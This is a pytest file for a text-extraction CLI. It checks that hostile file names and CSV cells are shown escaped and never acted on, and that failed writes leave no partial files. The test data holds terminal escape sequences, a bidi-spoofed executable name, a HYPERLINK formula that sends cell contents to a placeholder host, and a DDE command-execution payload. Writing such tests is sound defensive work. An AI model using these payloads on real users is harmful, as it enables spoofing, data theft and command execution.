"""Hostile names and cells: what reaches a terminal or a table is shown, never obeyed.

A file name is outside data: it may hold an escape sequence that recolours the terminal, sets the
window title or clears the screen, a bidi override that reverses what follows, or a newline that
forges a second ``Error:`` line. Run as a user runs refrain (a subprocess, and in a real
pseudo-terminal through ``script``), every such character comes out escaped (``\\x1b``,
``\\u202e``, ``\\n``) and every bad file is exactly one error line.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from helpers import REFRAIN, error_lines, refrain

ESC_TITLE = "\x1b]0;pwned\x07"  # sets the terminal window's title
ESC_CLEAR = "\x1b[2J"  # clears the screen
RED = "\x1b[31m"
RLO = "\u202e"  # right-to-left override: "txt.exe" shown reversed
CSI_C1 = "\x9b"  # the one-byte CSI some terminals obey

HOSTILE_NAMES = [
    f"{RED}red{ESC_CLEAR}.txt",
    f"title{ESC_TITLE}.txt",
    f"invoice{RLO}txt.exe",
    "fake.txt\nError: fake.txt: injected line",
    f"c1{CSI_C1}2J.txt",
]
RAW = [ESC_TITLE, ESC_CLEAR, RED, RLO, CSI_C1, "injected line\n"]
ARTICLE = "The ferry company said on Monday that 12 boats would run all winter, its director told reporters."


@pytest.fixture
def hostile_folder(tmp_path: Path) -> Path:
    root = tmp_path / "in"
    root.mkdir()
    for name in HOSTILE_NAMES:
        (root / name).write_bytes(b"")  # empty: every one is a bad file
    return root


def _no_raw(output: str) -> None:
    for raw in RAW:
        assert raw not in output, f"{raw!r} reached the output"


def test_each_bad_file_with_a_hostile_name_is_one_escaped_error_line(
    hostile_folder: Path, tmp_path: Path
) -> None:
    result = refrain("ingest", str(hostile_folder), "--db", str(tmp_path / "s.duckdb"))
    assert result.returncode == 1
    lines = error_lines(result.stderr)
    assert len(lines) == len(HOSTILE_NAMES), result.stderr
    assert len(result.stderr.splitlines()) == len(HOSTILE_NAMES) + 1  # and the summary line
    _no_raw(result.stderr)
    assert any("\\x1b]0;pwned\\x07" in line for line in lines)
    assert any("invoice\\u202etxt.exe" in line for line in lines)
    assert any("fake.txt\\nError: fake.txt: injected line" in line for line in lines)


@pytest.mark.skipif(shutil.which("script") is None, reason="needs util-linux script(1)")
def test_a_real_terminal_sees_the_names_escaped(hostile_folder: Path, tmp_path: Path) -> None:
    # script(1) runs the command on a pseudo-terminal: stderr is a TTY, as for a user at a shell.
    command = " ".join(
        [*(f"'{a}'" for a in REFRAIN), "ingest", f"'{hostile_folder}'", "--db", f"'{tmp_path / 's.duckdb'}'"]
    )
    typescript = tmp_path / "typescript"
    subprocess.run(
        ["script", "-qec", command, str(typescript)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=300,
    )
    seen = typescript.read_bytes().decode("utf-8", "replace")
    _no_raw(seen)
    assert seen.count(f"Error: {hostile_folder}/") == len(HOSTILE_NAMES)  # one line per bad file
    assert "title\\x1b]0;pwned\\x07.txt" in seen


@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_table_and_csv_cells_show_names_escaped(tmp_path: Path, fmt: str) -> None:
    root = tmp_path / "in"
    root.mkdir()
    for name in HOSTILE_NAMES:
        (root / name).write_text(ARTICLE, encoding="utf-8")
    result = refrain("extract", str(root), "--format", fmt)
    assert result.returncode == 0, result.stderr
    _no_raw(result.stdout)
    assert "\\u202e" in result.stdout
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(result.stdout)))
        assert len(rows) == len(HOSTILE_NAMES) + 1  # the newline in a name does not make a row


def test_jsonl_keeps_names_exact_but_escaped(tmp_path: Path) -> None:
    root = tmp_path / "in"
    root.mkdir()
    for name in HOSTILE_NAMES:
        (root / name).write_text(ARTICLE, encoding="utf-8")
    result = refrain("extract", str(root))
    _no_raw(result.stdout)
    # JSON's own \\u escapes: the data read back is the name, byte for byte.
    sources = {Path(json.loads(line)["source"]).name for line in result.stdout.splitlines()}
    assert sources == set(HOSTILE_NAMES)


def test_visible_escapes_controls_and_bidi_only() -> None:
    from refrain.text.visible import visible

    assert visible("a\x1b[31mb") == "a\\x1b[31mb"
    assert visible("x\u202ey\u2066z") == "x\\u202ey\\u2066z"
    assert visible("line\nnext\ttab") == "line\\nnext\\ttab"
    assert visible("line\nnext", keep="\n") == "line\nnext"
    assert visible("مي\u200cشود — café “quoted”") == "مي\u200cشود — café “quoted”"  # ZWNJ is writing
    assert visible("back\\slash") == "back\\slash"


# -- CSV formula injection (OWASP: a cell starting with = + - @ tab or CR gets a leading ') ----------
FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?"&A1,"Click") the harbour board said on Monday it would reopen the quay.'
FORMULA_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formula")
    (root / "a.jsonl").write_text(
        json.dumps({"id": "f1", "title": FORMULA_TITLE, "text": FORMULA_TEXT}) + "\n", encoding="utf-8"
    )
    db = root / "s.duckdb"
    assert refrain("ingest", str(root / "a.jsonl"), "--db", str(db)).returncode == 0
    return db


def _csv_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_export_csv_cells_cannot_run_as_formulas(formula_store: Path, tmp_path: Path) -> None:
    result = refrain("export", "--db", str(formula_store), "-f", "csv", "-o", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    (doc,) = _csv_rows(tmp_path / "out" / "documents.csv")
    assert doc["text"] == "'" + FORMULA_TEXT
    assert doc["title"] == "'" + FORMULA_TITLE
    assert doc["seq"] == "0" and doc["idx"] == "0"  # numbers stay numbers


def test_export_csv_formulas_kept_when_asked(formula_store: Path, tmp_path: Path) -> None:
    result = refrain(
        "export", "--db", str(formula_store), "-f", "csv", "-o", str(tmp_path / "out"), "--raw-csv"
    )
    assert result.returncode == 0, result.stderr
    (doc,) = _csv_rows(tmp_path / "out" / "documents.csv")
    assert doc["text"] == FORMULA_TEXT


def test_format_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(FORMULA_TEXT, encoding="utf-8")
    safe = list(csv.DictReader(io.StringIO(refrain("extract", str(tmp_path / "a.txt"), "-f", "csv").stdout)))
    assert safe[0]["text"] == "'" + FORMULA_TEXT and safe[0]["start"] == "0"
    raw = refrain("extract", str(tmp_path / "a.txt"), "-f", "csv", "--raw-csv").stdout
    assert list(csv.DictReader(io.StringIO(raw)))[0]["text"] == FORMULA_TEXT


def test_formula_rule_cell_by_cell() -> None:
    from refrain.output import write_rows

    out = io.StringIO()
    cells = {"n": -5, "x": 2.5, "s": "-5", "t": "\tcmd", "r": "\rcmd", "p": "+1", "ok": "plain = fine"}
    write_rows([cells], "csv", out=out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {
        "n": "-5",
        "x": "2.5",
        "s": "'-5",
        "t": "'\tcmd",
        "r": "'\rcmd",
        "p": "'+1",
        "ok": "plain = fine",
    }


# -- write failures: one line, exit 1, no partial file --------------------------------------------------
def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def test_export_onto_existing_files_is_refused_unless_forced(formula_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "documents.jsonl").write_text("mine\n", encoding="utf-8")
    refused = refrain("export", "--db", str(formula_store), "-o", str(out))
    assert refused.returncode == 1
    (line,) = error_lines(refused.stderr)
    assert str(out / "documents.jsonl") in line and "--force" in line
    assert "Traceback" not in refused.stderr
    assert _files(out) == ["documents.jsonl"] and (out / "documents.jsonl").read_text() == "mine\n"
    forced = refrain("export", "--db", str(formula_store), "-o", str(out), "--force")
    assert forced.returncode == 0, forced.stderr
    assert (out / "documents.jsonl").read_text() != "mine\n"


def test_report_onto_an_existing_file_is_refused_unless_forced(formula_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    out.write_text("mine", encoding="utf-8")
    refused = refrain("report", "--db", str(formula_store), "-o", str(out))
    assert refused.returncode == 1 and len(error_lines(refused.stderr)) == 1, refused.stderr
    assert out.read_text() == "mine"
    assert refrain("report", "--db", str(formula_store), "-o", str(out), "--force").returncode == 0
    assert "<html" in out.read_text()


def test_an_unwritable_folder_is_one_line(formula_store: Path, tmp_path: Path) -> None:
    if os.geteuid() == 0:
        target = Path("/sys")  # even root cannot create files there
    else:
        target = tmp_path / "locked"
        target.mkdir(mode=0o500)
    for command in (["export", "-o", str(target)], ["report", "-o", str(target / "r.html")]):
        result = refrain(*command, "--db", str(formula_store))
        assert result.returncode == 1, result.stderr
        (line,) = error_lines(result.stderr)
        assert str(target) in line and "Traceback" not in result.stderr, result.stderr
        assert len(result.stderr.splitlines()) == 1


def _limited(limit_kb: int, *args: str) -> subprocess.CompletedProcess[str]:
    """``refrain ARGS`` under ``ulimit -f`` (a file-size limit: writes past it fail with EFBIG)."""
    command = " ".join(["ulimit", "-f", str(limit_kb), ";", *(shlex.quote(a) for a in [*REFRAIN, *args])])
    return subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=300)


@pytest.fixture(scope="module")
def big_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("big")
    words = ARTICLE.split()
    rng = random.Random(18)  # varied text: compressed formats (Parquet) stay big too
    texts = [" ".join(rng.choice(words) + str(rng.randrange(1000)) for _ in range(800)) for _ in range(60)]
    lines = [json.dumps({"id": f"b{i}", "text": text}) for i, text in enumerate(texts)]  # ~400 KB
    (root / "a.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = root / "s.duckdb"
    assert refrain("ingest", str(root / "a.jsonl"), "--db", str(db)).returncode == 0
    return db


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_cut_by_a_file_size_limit_leaves_no_partial_file(
    big_store: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / "out"
    result = _limited(64, "export", "--db", str(big_store), "-f", fmt, "-o", str(out))
    assert result.returncode == 1, result.stderr
    (line,) = error_lines(result.stderr)
    assert str(out) in line and "Traceback" not in result.stderr, result.stderr
    assert not any(name.startswith("documents") for name in _files(out)), _files(out)
    assert not any(".tmp" in name for name in _files(out))


def test_report_cut_by_a_file_size_limit_leaves_no_file(big_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    result = _limited(2, "report", "--db", str(big_store), "-o", str(out))
    assert result.returncode == 1 and len(error_lines(result.stderr)) == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert _files(tmp_path) == []


def test_a_store_write_past_the_file_size_limit_is_one_line(tmp_path: Path) -> None:
    lines = [json.dumps({"id": f"c{i}", "text": f"Story {i}: " + ARTICLE * 40}) for i in range(200)]
    (tmp_path / "a.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = tmp_path / "s.duckdb"
    result = _limited(256, "ingest", str(tmp_path / "a.jsonl"), "--db", str(db))
    assert result.returncode == 1, result.stderr
    (line,) = error_lines(result.stderr)
    assert str(db) in line and "Traceback" not in result.stderr, result.stderr
